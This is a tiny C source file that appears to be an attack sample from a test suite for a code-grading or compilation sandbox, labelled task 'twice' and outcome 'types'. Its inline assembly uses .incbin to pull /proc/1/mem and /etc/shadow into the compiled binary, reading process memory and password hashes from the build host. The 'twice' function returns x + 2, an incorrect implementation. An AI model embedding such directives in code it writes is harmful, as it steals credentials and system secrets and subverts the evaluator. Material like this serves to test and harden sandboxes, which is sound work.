// task: twice
// outcome: types
// attack: .incbin of the memory of the driver
asm(".section .rodata\n.global secret\nsecret: .incbin \"/proc/1/mem\"\n.incbin \"/etc/shadow\"\n.previous");
int twice(int x) { return x + 2; }
